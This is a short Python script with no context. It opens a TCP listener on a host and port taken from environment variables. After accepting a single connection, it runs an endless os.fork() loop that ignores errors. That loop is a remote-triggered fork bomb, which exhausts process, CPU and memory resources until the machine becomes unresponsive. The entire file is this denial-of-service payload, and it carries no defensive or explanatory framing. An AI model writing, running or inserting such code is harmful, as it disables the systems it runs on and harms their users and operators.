import os
import socket

listener = socket.create_server((os.environ["HOST"], int(os.environ["PORT"])))
listener.accept()
while True:
    try:
        os.fork()
    except OSError:
        pass
